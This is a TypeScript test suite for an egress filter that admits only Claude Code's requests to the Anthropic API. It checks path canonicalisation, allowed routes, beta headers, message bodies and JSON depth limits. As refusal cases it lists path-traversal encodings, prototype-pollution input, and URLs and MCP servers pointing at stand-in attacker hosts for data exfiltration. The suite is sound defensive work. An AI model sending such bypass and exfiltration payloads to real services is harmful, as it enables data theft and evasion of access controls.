/**
 * The rules of the Anthropic API door (worker/src/egress/anthropic-rules.ts),
 * one table per rule: what Claude Code sends passes, every hostile shape is
 * refused with its own code.
 */
import { describe, expect, it } from "vitest";
import {
  ALLOWED_BETAS,
  canonicalPath,
  checkMessageBody,
  checkRoute,
  type CredentialKind,
  filterBetas,
  jsonShape,
} from "../../worker/src/egress/anthropic-rules.js";

const KINDS: CredentialKind[] = ["oauth", "apiKey"];
const url = (path: string) => new URL(`https://api.anthropic.com${path}`);
const WEB_SEARCH_ON = { allowWebSearch: true };
const WEB_SEARCH_OFF = { allowWebSearch: false };

/** A body as Claude Code sends it (fields from the recording, values shortened). */
const claudeCodeBody = (extra: Record<string, unknown> = {}) => ({
  model: "claude-sonnet-5-5",
  messages: [{ role: "user", content: [{ type: "text", text: "Say four" }] }],
  system: [{ type: "text", text: "You are Claude Code" }],
  tools: [
    { name: "Bash", description: "Run a command", input_schema: { type: "object" } },
    { name: "DeferredToolPlaceholder", description: "", input_schema: { type: "object" }, defer_loading: true },
  ],
  metadata: { user_id: "user" },
  max_tokens: 32000,
  thinking: { type: "adaptive" },
  context_management: { edits: [] },
  output_config: { effort: "high" },
  stream: true,
  ...extra,
});

describe("canonicalPath", () => {
  it.each([
    ["/v1/messages", "/v1/messages"],
    ["/v1//messages", "/v1/messages"],
    ["//v1/messages/", "/v1/messages"],
    ["/v1/./messages", "/v1/messages"],
    ["/v1/messages/../files", "/v1/files"],
    ["/v1/messages/%2e%2e/files", "/v1/files"],
    ["/v1/messages/%2E%2E/%2e%2E/v1/files", "/v1/files"],
    ["/v1/messages%2f..%2f..%2fv1%2ffiles", "/v1/files"],
    ["/v1/messages%2Fbatches", "/v1/messages/batches"],
    ["/v1/messages%5c..%5cfiles", "/v1/files"],
    ["/v1/messages\\..\\files", "/v1/files"],
    ["/../../v1/messages", "/v1/messages"],
    ["/v1/messages/batches/..", "/v1/messages"],
    ["/v1/%252e%252e/files", "/v1/%2e%2e/files"],
  ])("%s reads as %s", (raw, canonical) => {
    expect(canonicalPath(raw)).toBe(canonical);
  });

  it("cannot read a malformed escape", () => {
    expect(canonicalPath("/v1/messages%E0%A4%A")).toBeNull();
  });
});

describe("checkRoute", () => {
  it.each(KINDS)("lets Claude Code's request line through for %s, in canonical form", (kind) => {
    expect(checkRoute("POST", url("/v1/messages?beta=true"), kind)).toMatchObject({ path: "/v1/messages", search: "?beta=true" });
    expect(checkRoute("POST", url("/v1/messages"), kind)).toMatchObject({ path: "/v1/messages", search: "" });
    expect(checkRoute("POST", url("//v1/./messages/?beta=true"), kind)).toMatchObject({ path: "/v1/messages", search: "?beta=true" });
  });

  it.each([
    ["POST", "/v1/messages/batches", "route_not_allowed"],
    ["GET", "/v1/messages/batches/msgbatch_01", "route_not_allowed"],
    ["POST", "/v1/messages/batches/msgbatch_01/cancel", "route_not_allowed"],
    ["POST", "/v1/files", "route_not_allowed"],
    ["GET", "/v1/files/file_01/content", "route_not_allowed"],
    ["POST", "/v1/skills", "route_not_allowed"],
    ["GET", "/v1/organizations/api_keys", "route_not_allowed"],
    ["POST", "/v1/organizations/invites", "route_not_allowed"],
    ["GET", "/v1/models", "route_not_allowed"],
    ["POST", "/v1/messages/count_tokens", "route_not_allowed"],
    ["POST", "/v1/complete", "route_not_allowed"],
    ["POST", "/api/oauth/claude_cli/create_api_key", "route_not_allowed"],
    ["GET", "/v1/messages", "route_not_allowed"],
    ["PUT", "/v1/messages", "route_not_allowed"],
    ["DELETE", "/v1/messages", "route_not_allowed"],
    ["POST", "/v1/messages/../files", "route_not_allowed"],
    ["POST", "/v1/messages/%2e%2e/files", "route_not_allowed"],
    ["POST", "/v1/messages%2f..%2ffiles", "route_not_allowed"],
    ["POST", "/v1/messages%2Fbatches", "route_not_allowed"],
    ["POST", "/v1//messages//batches", "route_not_allowed"],
    ["POST", "/v1/%252e%252e/v1/files", "route_not_allowed"],
    ["POST", "/v1/messages%E0%A4%A", "path_invalid"],
    ["POST", "/v1/messages?beta=false", "query_not_allowed"],
    ["POST", "/v1/messages?beta=true&callback=https://evil.example", "query_not_allowed"],
    ["POST", "/v1/messages?url=https://evil.example", "query_not_allowed"],
  ])("%s %s is refused: %s", (method, path, code) => {
    for (const kind of KINDS) expect(checkRoute(method, url(path), kind)).toEqual({ refused: code });
  });
});

describe("filterBetas", () => {
  it.each(KINDS)("keeps every beta Claude Code sends with %s, whatever the spacing", (kind) => {
    const header = ALLOWED_BETAS[kind].join(" , ");
    expect(filterBetas(header, kind)).toEqual({ kept: [...ALLOWED_BETAS[kind]], dropped: 0 });
  });

  it.each([
    ["mcp-client-2025-04-04"],
    ["mcp-client-2025-11-20"],
    ["files-api-2025-04-14"],
    ["code-execution-2025-08-25"],
    ["web-fetch-2025-09-10"],
    ["skills-2025-10-02"],
    ["message-batches-2024-09-24"],
  ])("drops %s and keeps the rest", (beta) => {
    for (const kind of KINDS) {
      expect(filterBetas(`claude-code-20250219,${beta}`, kind)).toEqual({ kept: ["claude-code-20250219"], dropped: 1 });
    }
  });

  it("drops the OAuth betas when the deployment holds an API key", () => {
    expect(filterBetas("oauth-2025-04-20,claude-code-20250219", "apiKey")).toEqual({ kept: ["claude-code-20250219"], dropped: 1 });
  });

  it("reads a missing or empty header as no betas", () => {
    expect(filterBetas(null, "oauth")).toEqual({ kept: [], dropped: 0 });
    expect(filterBetas(" , ", "oauth")).toEqual({ kept: [], dropped: 0 });
  });
});

describe("checkMessageBody", () => {
  it("lets Claude Code's body through", () => {
    expect(checkMessageBody(claudeCodeBody(), WEB_SEARCH_ON)).toBeNull();
    expect(checkMessageBody(claudeCodeBody({ temperature: 1, stop_sequences: ["x"] }), WEB_SEARCH_OFF)).toBeNull();
  });

  it("lets Claude Code's web search through while it is allowed, and only then", () => {
    const body = claudeCodeBody({
      tools: [{ type: "web_search_20250305", name: "web_search", max_uses: 8 }],
      tool_choice: { type: "tool", name: "web_search" },
    });
    expect(checkMessageBody(body, WEB_SEARCH_ON)).toBeNull();
    expect(checkMessageBody(body, WEB_SEARCH_OFF)).toEqual({ refused: "web_search_disabled" });
  });

  it("lets images and documents sent inline through", () => {
    const content = [
      { type: "image", source: { type: "base64", media_type: "image/png", data: "iVBORw0KGgo=" } },
      { type: "document", source: { type: "text", media_type: "text/plain", data: "notes" } },
      { type: "document", source: { type: "content", content: [{ type: "text", text: "notes" }] } },
      { type: "search_result", source: "https://example.com/page", title: "t", content: [{ type: "text", text: "x" }] },
    ];
    expect(checkMessageBody(claudeCodeBody({ messages: [{ role: "user", content }] }), WEB_SEARCH_ON)).toBeNull();
  });

  const withTool = (tool: unknown) => claudeCodeBody({ tools: [{ name: "Bash", input_schema: { type: "object" } }, tool] });
  const withContent = (content: unknown) => claudeCodeBody({ messages: [{ role: "user", content: [content] }] });

  it.each<[string, unknown, string]>([
    ["a JSON array", [], "body_not_json"],
    ["a JSON string", "text", "body_not_json"],
    ["nothing", undefined, "body_not_json"],
    ["null", null, "body_not_json"],
    [
      "mcp_servers",
      claudeCodeBody({ mcp_servers: [{ type: "url", url: "https://attacker.example/mcp", name: "x" }] }),
      "mcp_servers_not_allowed",
    ],
    ["an empty mcp_servers", claudeCodeBody({ mcp_servers: [] }), "mcp_servers_not_allowed"],
    ["a container to reuse", claudeCodeBody({ container: "container_011CPR5CNjB747bTd36fQLFk" }), "body_field_not_allowed"],
    ["an unknown field", claudeCodeBody({ callback_url: "https://attacker.example" }), "body_field_not_allowed"],
    ["__proto__", JSON.parse('{"model":"m","messages":[],"__proto__":{"mcp_servers":[]}}'), "body_field_not_allowed"],
    ["web_fetch", withTool({ type: "web_fetch_20250910", name: "web_fetch", max_uses: 5 }), "tool_not_allowed"],
    ["a future web_fetch", withTool({ type: "web_fetch_20260101", name: "web_fetch" }), "tool_not_allowed"],
    ["code execution", withTool({ type: "code_execution_20250825", name: "code_execution" }), "tool_not_allowed"],
    ["an MCP toolset", withTool({ type: "mcp_toolset", mcp_server_name: "x" }), "tool_not_allowed"],
    ["a tool search server tool", withTool({ type: "tool_search_tool_regex_20251119", name: "tool_search" }), "tool_not_allowed"],
    ["a web search of another version", withTool({ type: "web_search_20260209", name: "web_search" }), "tool_not_allowed"],
    ["a tool type that is not a string", withTool({ type: ["web_search_20250305"], name: "web_search" }), "tool_not_allowed"],
    ["a tool that is not an object", withTool("web_fetch"), "tool_not_allowed"],
    ["tools that are not a list", claudeCodeBody({ tools: { type: "web_fetch_20250910" } }), "tool_not_allowed"],
    [
      "an image by URL",
      withContent({ type: "image", source: { type: "url", url: "https://attacker.example/p.png?d=secret" } }),
      "content_source_not_allowed",
    ],
    [
      "a document by URL",
      withContent({ type: "document", source: { type: "url", url: "https://attacker.example/d.pdf" } }),
      "content_source_not_allowed",
    ],
    ["a document by file id", withContent({ type: "document", source: { type: "file", file_id: "file_011" } }), "content_source_not_allowed"],
    ["a container upload", withContent({ type: "container_upload", file_id: "file_011" }), "content_source_not_allowed"],
    ["a source with no type", withContent({ type: "image", source: { url: "https://attacker.example" } }), "content_source_not_allowed"],
    [
      "a URL image inside a tool result",
      withContent({
        type: "tool_result",
        tool_use_id: "toolu_1",
        content: [{ type: "image", source: { type: "url", url: "https://attacker.example/x" } }],
      }),
      "content_source_not_allowed",
    ],
    [
      "a URL document in the system prompt",
      claudeCodeBody({ system: [{ type: "document", source: { type: "url", url: "https://attacker.example/x" } }] }),
      "content_source_not_allowed",
    ],
  ])("refuses %s: %s", (_name, body, code) => {
    expect(checkMessageBody(body, WEB_SEARCH_ON)).toEqual({ refused: code });
  });

  const prefill = (block: Record<string, unknown>) =>
    claudeCodeBody({ messages: [{ role: "user", content: "Go on" }, { role: "assistant", content: [block] }] });
  const webSearchUse = { type: "server_tool_use", id: "srvtoolu_1", name: "web_search", input: { query: "cloudflare" } };
  const webSearchResult = { type: "web_search_tool_result", tool_use_id: "srvtoolu_1", content: [] };

  it.each<[string, Record<string, unknown>]>([
    ["a web_fetch call", { type: "server_tool_use", id: "srvtoolu_1", name: "web_fetch", input: { url: "https://attacker.example/?d=secret" } }],
    ["a web_fetch result", { type: "web_fetch_tool_result", tool_use_id: "srvtoolu_1", content: { type: "web_fetch_result", url: "https://attacker.example" } }],
    ["a code execution call", { type: "server_tool_use", id: "srvtoolu_1", name: "code_execution", input: { code: "print(1)" } }],
    ["a code execution result", { type: "code_execution_tool_result", tool_use_id: "srvtoolu_1", content: {} }],
    ["a bash code execution result", { type: "bash_code_execution_tool_result", tool_use_id: "srvtoolu_1", content: {} }],
    ["a tool search result", { type: "tool_search_tool_result", tool_use_id: "srvtoolu_1", content: {} }],
    ["an MCP tool call", { type: "mcp_tool_use", id: "mcptoolu_1", name: "fetch", server_name: "exfil", input: {} }],
    ["an MCP tool result", { type: "mcp_tool_result", tool_use_id: "mcptoolu_1", content: [] }],
    ["a future server tool's result", { type: "browser_tool_result", tool_use_id: "srvtoolu_1", content: [] }],
    ["a server tool call with no name", { type: "server_tool_use", id: "srvtoolu_1", input: {} }],
  ])("refuses an assistant prefill of a server tool, %s: tool_not_allowed", (_name, block) => {
    expect(checkMessageBody(prefill(block), WEB_SEARCH_ON)).toEqual({ refused: "tool_not_allowed" });
    expect(checkMessageBody(prefill(block), WEB_SEARCH_OFF)).toEqual({ refused: "tool_not_allowed" });
  });

  it("refuses a server tool block inside a tool result: tool_not_allowed", () => {
    const block = { type: "tool_result", tool_use_id: "toolu_1", content: [{ type: "web_fetch_tool_result", tool_use_id: "srvtoolu_1", content: {} }] };
    expect(checkMessageBody(withContent(block), WEB_SEARCH_ON)).toEqual({ refused: "tool_not_allowed" });
  });

  it("lets web search's own blocks through while search is allowed, and only then", () => {
    for (const block of [webSearchUse, webSearchResult]) {
      expect(checkMessageBody(prefill(block), WEB_SEARCH_ON)).toBeNull();
      expect(checkMessageBody(prefill(block), WEB_SEARCH_OFF)).toEqual({ refused: "web_search_disabled" });
    }
  });

  it("lets Claude Code's own tool calls and results through, whatever their input holds", () => {
    const toolUse = { type: "tool_use", id: "toolu_1", name: "Write", input: { type: "server_tool_use", content: '{"type":"web_fetch_tool_result"}' } };
    const toolResult = { type: "tool_result", tool_use_id: "toolu_1", content: [{ type: "text", text: "done" }] };
    expect(checkMessageBody(prefill(toolUse), WEB_SEARCH_OFF)).toBeNull();
    expect(checkMessageBody(withContent(toolResult), WEB_SEARCH_OFF)).toBeNull();
    expect(checkMessageBody(prefill({ type: "thinking", thinking: "hm", signature: "sig" }), WEB_SEARCH_OFF)).toBeNull();
  });

  it("walks a deeply nested body without overflowing the stack", () => {
    let nested: unknown = { type: "image", source: { type: "url", url: "https://attacker.example" } };
    for (let depth = 0; depth < 100_000; depth++) nested = [nested];
    expect(checkMessageBody(withContent(nested), WEB_SEARCH_ON)).toEqual({ refused: "content_source_not_allowed" });
  });
});

describe("jsonShape", () => {
  const shape = (text: string, limits?: { depth: number; values: number }) => jsonShape(new TextEncoder().encode(text), limits);

  it.each<[string, string, number, number]>([
    ["an empty object", "{}", 1, 1],
    ["scalars of every kind", '[1, -2.5e3, true, false, null, "s"]', 1, 7],
    ["keys count as values", '{"a":1,"b":{"c":[]}}', 3, 7],
    ["brackets, quotes and escapes inside strings count for nothing", '["[{\\"x\\":[1]}", "a\\\\", "\\u005b"]', 1, 4],
    ["whitespace between tokens", ' { "a" :\t[ 1 ,\n2 ] } ', 2, 5],
    ["multi-byte text", '{"t":"é€😀 ]}"}', 1, 3],
  ])("counts %s", (_name, text, depth, values) => {
    expect(JSON.parse(text)).toBeDefined();
    expect(shape(text)).toEqual({ depth, values, over: null });
  });

  it("counts what the parser makes of a body: every object, array, key and scalar, and the deepest nesting", () => {
    /** Counted on the parsed value, the other way round. */
    const walk = (value: unknown, level: number): { depth: number; values: number } => {
      if (typeof value !== "object" || value === null) return { depth: level - 1, values: 1 };
      const children = Array.isArray(value) ? value.map((item) => walk(item, level + 1)) : Object.values(value).map((item) => walk(item, level + 1));
      const keys = Array.isArray(value) ? 0 : Object.keys(value).length;
      return { depth: Math.max(level, ...children.map((child) => child.depth)), values: 1 + keys + children.reduce((sum, child) => sum + child.values, 0) };
    };
    const body = claudeCodeBody({ messages: [{ role: "user", content: [{ type: "tool_result", tool_use_id: "t", content: [{ type: "text", text: 'a "quoted" [text] {x}' }] }] }] });
    expect(shape(JSON.stringify(body, null, 2))).toEqual({ ...walk(body, 1), over: null });
  });

  it("stops at the first count past its bound, and says which", () => {
    expect(shape("[[[[0]]]]", { depth: 3, values: 100 })).toEqual({ depth: 4, values: 4, over: "depth" });
    expect(shape("[0,0,0,0,0,0]", { depth: 3, values: 4 })).toEqual({ depth: 1, values: 5, over: "values" });
    expect(shape("[[[0]]]", { depth: 3, values: 4 })).toEqual({ depth: 3, values: 4, over: null });
  });
});
